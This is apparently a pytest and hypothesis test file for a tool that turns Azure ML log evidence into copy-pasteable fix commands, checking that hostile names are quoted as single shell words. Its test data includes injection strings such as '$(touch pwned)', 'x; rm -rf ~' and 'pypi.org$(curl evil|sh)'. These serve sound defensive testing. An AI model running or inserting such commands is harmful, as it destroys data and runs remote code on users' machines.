"""Fix commands are safe to paste: every value is one shell word, placeholders stay readable, and names read from
logs go into a command only when they are valid for what they name.

The checks run in process on the bundled example snapshot (no network), with names in the evidence replaced by
hostile text: the commands keep their shape word for word.
"""

from __future__ import annotations

import copy
import json
import os
import re
import shlex
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from moediag.collector import Collector
from moediag.logpatterns import scan
from moediag.registry import all_checks
from moediag.runner import run_checks
from moediag.shell import (
    Command,
    Placeholder,
    command,
    is_fqdn,
    is_map_key,
    is_python_module,
    kql_string,
    quote,
)
from moediag.target import Options, Target

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = json.loads((ROOT / "examples" / "broken-workspace.snapshot.json").read_text())
EXAMPLES = int(os.environ.get("MOEDIAG_FUZZ_EXAMPLES", "25"))
FUZZ = settings(max_examples=EXAMPLES, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))

# Text a shell (or a reader) would take for something else, and any other character at all (surrogates included).
NASTY = ["$(touch pwned)", "`id`", "a b", "x; rm -rf ~", "'", '"', "\\", "\n", "\r", "\x00", "\x1b[2J", "#", "<name>",
         "-rf", "*", "~", "a|b", "&&", ">out", "\u202e", "\ud800", "", " "]
hostile = st.one_of(st.sampled_from(NASTY), st.text(st.characters(exclude_categories=()), max_size=12),
                    st.lists(st.sampled_from(NASTY), min_size=1, max_size=4).map("".join))


# --- the helper ------------------------------------------------------------------------------------------------

def test_ordinary_names_stay_as_they_are_and_anything_else_is_quoted():
    assert command("az keyvault update -n {name} -g {group} --bypass AzureServices", name="kv-prod", group="rg") \
        == "az keyvault update -n kv-prod -g rg --bypass AzureServices"
    assert command("az resource show --ids {id}", id="/subscriptions/s/resourceGroups/rg/providers/X.Y/z/n") \
        == "az resource show --ids /subscriptions/s/resourceGroups/rg/providers/X.Y/z/n"
    assert command("x -n {name}", name="a b") == "x -n 'a b'"
    assert command("x -n {name}", name="$(id)") == "x -n '$(id)'"
    assert command("x -n {name}", name="it's") == "x -n 'it'\"'\"'s'"
    assert command("x -n {name}", name="") == "x -n ''"


def test_a_value_that_looks_like_a_placeholder_is_quoted_but_a_placeholder_is_not():
    assert command("x -g {group} -f <deployment.yml>", group="<resource-group>") == "x -g '<resource-group>' -f <deployment.yml>"
    assert command("x -g {group}", group=Placeholder("resource-group")) == "x -g <resource-group>"
    assert command("x -g {group}", group=None) == "x -g <group>"


@pytest.mark.parametrize("name", ["a>b", "x$(id)", "", "-rf", "a\nb", "<x>", "x\u202e"])
def test_a_placeholder_is_made_only_from_a_plain_name(name):
    with pytest.raises(ValueError):
        Placeholder(name)


def test_a_fragment_is_inserted_as_built_and_numbers_are_written_as_numbers():
    where = command("-g {group} -w {workspace}", group="rg", workspace="my ws")
    assert command("az ml online-endpoint show -n {name} {where} --lines {n}", name="ep", where=where, n=300) \
        == "az ml online-endpoint show -n ep -g rg -w 'my ws' --lines 300"
    assert command("x {flag}", flag=True) == "x True"  # a garbled body: quoted as text, never a crash
    assert shlex.split(command("x {v}", v=["a b"])) == ["x", "['a b']"]


@pytest.mark.parametrize("template", ["az x -n ws  # on {vnet}", "# {x}", "az x\t#note {x}"])
def test_a_value_never_goes_into_a_comment(template):
    with pytest.raises(ValueError, match="comment"):
        command(template, vnet="v", x="y")


def test_a_fragment_ending_in_a_comment_cannot_be_continued():
    with pytest.raises(ValueError, match="comment"):
        command("{base} --yes", base=command("az x  # careful"))


@FUZZ
@given(value=hostile)
@example(value="\x1b]8;;http://evil\x07click\x1b]8;;\x07")
def test_any_value_comes_back_as_exactly_one_word(value):
    built = command("az keyvault update -n {name} -g rg --bypass AzureServices  # literal comment", name=value)
    assert isinstance(built, Command)
    words = shlex.split(built)
    assert words[:4] == ["az", "keyvault", "update", "-n"] and words[4] == value
    assert words[5:] == ["-g", "rg", "--bypass", "AzureServices", "#", "literal", "comment"]
    assert shlex.split(quote(value)) == [value]


@pytest.mark.parametrize("host, valid", [
    ("pypi.org", True), ("files.pythonhosted.org", True), ("a-b.c0.example.com.", True), ("xn--bcher-kva.example", True),
    ("localhost", False), ("10.0.0.1", False), ("-a.org", False), ("a-.org", False), ("a..org", False),
    ("a_b.org", False), ("a b.org", False), ("$(id).org", False), ("pypi.org;id", False), ("bücher.example", False),
    ("a" * 64 + ".org", False), (".".join(["a" * 60] * 5), False), ("", False), (None, False)])
def test_a_host_name_is_valid_only_as_an_rfc_1123_fqdn(host, valid):
    assert is_fqdn(host) is valid


@pytest.mark.parametrize("module, valid", [
    ("lightgbm", True), ("azureml.core", True), ("_private", True), ("sklearn.externals.joblib", True),
    ("a.b.", False), ("import", False), ("a-b", False), ("a b", False), ("x;import os", False), ("", False)])
def test_a_module_name_is_valid_only_as_dotted_identifiers(module, valid):
    assert is_python_module(module) is valid


def test_map_keys_and_kql_literals():
    assert is_map_key("blue") and is_map_key("blue-v2_1.a")
    assert not any(is_map_key(k) for k in ("a b", "a=1", "", "-x", "a\nb", "x'"))
    assert kql_string('a"b\\c') == '"a\\"b\\\\c"'
    with pytest.raises(ValueError):
        kql_string("a\nb")


# --- names from logs -------------------------------------------------------------------------------------------

KNOWN = {"endpoint": "ep-main", "deployment": "blue", "resource_group": "rg-ml", "workspace": "ws-prod"}


def test_a_host_from_a_resolution_error_becomes_one_word_of_an_outbound_rule_when_valid():
    [finding] = scan("NameResolutionError: Failed to resolve 'pypi.org' ([Errno -3] Temporary failure)")
    rule = shlex.split(finding.commands(KNOWN)[0])
    assert rule[rule.index("--destination") + 1] == "pypi.org" and rule[rule.index("--rule") + 1] == "allow-pypi-org"


@FUZZ
@given(host=hostile)
@example(host="files.pythonhosted.org")
@example(host="pypi.org$(curl evil|sh)")
@example(host="evil.example --type fqdn --destination *")
def test_a_host_that_is_not_an_fqdn_never_reaches_a_command_but_the_prose_still_says_what_to_do(host):
    assume("'" not in host and not any(c in host for c in "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029") and host)
    [finding] = [f for f in scan(f"urllib3 NameResolutionError: Failed to resolve '{host}' (Errno -3)")
                 if f.pattern.id == "name-resolution"]
    assert finding.groups["host"] == host
    commands = finding.commands(KNOWN)
    if is_fqdn(host):
        rule = shlex.split(commands[0])
        assert rule[rule.index("--destination") + 1] == host and len(rule) == 15
    else:
        assert commands == ["az ml workspace provision-network -g rg-ml -n ws-prod"]
        assert host in finding.fix(KNOWN) and "outbound rule" in finding.fix(KNOWN)


@FUZZ
@given(module=hostile)
def test_a_module_name_from_an_import_error_stays_in_the_prose(module):
    assume("'" not in module and not any(c in module for c in "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029") and module)
    [finding] = [f for f in scan(f"ModuleNotFoundError: No module named '{module}'") if f.pattern.id == "python-import"]
    benign = scan("ModuleNotFoundError: No module named 'lightgbm'")[0]
    assert finding.commands(KNOWN) == benign.commands(KNOWN)
    assert finding.fix(KNOWN).startswith(f"Add {module} to the environment")


# --- every check, hostile names in the evidence ----------------------------------------------------------------

def evaluate(snapshot: dict) -> list:
    options = snapshot.get("options") or {}
    collector = Collector(Target.from_json(snapshot["target"]),
                          Options(timeout_s=10, dns_servers=tuple(options.get("dns_servers") or ()),
                                  logs=options.get("logs", "auto")), snapshot=snapshot["facts"], workers=4)
    try:
        return run_checks(list(all_checks().values()), collector).results
    finally:
        collector.close()


def token(name: str) -> re.Pattern:
    return re.compile(rf"(?<![A-Za-z0-9-]){re.escape(name)}(?![A-Za-z0-9-])")


def renamed(value, pattern: re.Pattern, new: str):
    """`value` with every whole occurrence of a name, in keys and strings, replaced by `new`."""
    if isinstance(value, str):
        return pattern.sub(lambda _: new, value)
    if isinstance(value, list):
        return [renamed(v, pattern, new) for v in value]
    if isinstance(value, dict):
        return {renamed(k, pattern, new): renamed(v, pattern, new) for k, v in value.items()}
    return value


BASELINE = evaluate(EXAMPLE)
# Names of the example that end up in fix commands (workspace and groups come from the target, the rest from bodies).
NAMES = ["ws-prod", "rg-ml", "rg-net", "rg-dns", "pe-ws", "vnet-ml", "snet-pe", "kv-ws-prod", "acrwsprod", "ep-main",
         "blue", "privatelink-api-azureml-ms"]


def test_the_example_gives_fix_commands_carrying_each_name_and_each_is_built_by_the_helper():
    commands = [c for r in BASELINE if r.fix for c in r.fix.commands]
    assert len(commands) >= 12 and all(isinstance(c, Command) for c in commands)
    for name in NAMES:
        assert any(token(name).search(c) for c in commands), name


# A name as Azure would never allow, but as evidence can carry: no slash (it would change the id's shape), no `|`
# (the snapshot's fact keys), no `#`, `?` or `@` (an endpoint's name is the host of its scoring URI: these would end
# the host there and so change which DNS answer the replay looks up), compared case-insensitively like ARM names.
arm_hostile = hostile.map(str.lower).filter(lambda h: h == h.lower() and h.strip() == h and h
                                             and not any(c in h for c in "/|#?@"))


@FUZZ
@given(name=st.sampled_from(NAMES), new=arm_hostile)
@example(name="ep-main", new="$(touch pwned)")
@example(name="kv-ws-prod", new="kv --bypass none; rm -rf ~ #")
@example(name="blue", new="blue=100 evil")
def test_a_hostile_name_in_the_evidence_never_adds_or_splits_a_word_of_a_fix_command(name, new):
    pattern = token(name)
    benign_commands = {c for r in BASELINE if r.fix for c in r.fix.commands}
    assume(not any(new in c for c in benign_commands) and not token(new).search(json.dumps(EXAMPLE)))
    snapshot = renamed(copy.deepcopy(EXAMPLE), pattern, new)
    results = evaluate(snapshot)
    assert [r.check_id for r in results] == [r.check_id for r in BASELINE]
    for before, after in zip(BASELINE, results):
        assert after.status == before.status, (after.check_id, after.message)
        assert after.resource_id == renamed(before.resource_id, pattern, new)
        if before.fix is None:
            assert after.fix is None
            continue
        expected = [[renamed(w, pattern, new) for w in shlex.split(c)] for c in before.fix.commands]
        got = [shlex.split(c) for c in after.fix.commands]
        if got != expected:  # only a --traffic value leaves a name out, when it cannot hold it (and says so)
            assert after.check_id == "endpoint.traffic-assignment" and not is_map_key(new)
            assert got == [w for w in expected if "--traffic" not in w] and "cannot be written" in after.fix.summary
        assert all(isinstance(c, Command) for c in after.fix.commands)


# --- no command is built any other way -------------------------------------------------------------------------

def test_no_fix_command_is_written_as_an_f_string():
    starts = re.compile(r"""\bf(['"])(?:az|nslookup|moediag check|Add-DnsServer)\b""")
    sources = [*ROOT.joinpath("checks").glob("*.py"), *ROOT.joinpath("moediag").rglob("*.py")]
    found = [f"{p.relative_to(ROOT)}:{n}" for p in sources for n, line in enumerate(p.read_text().splitlines(), 1)
             if starts.search(line)]
    assert found == []
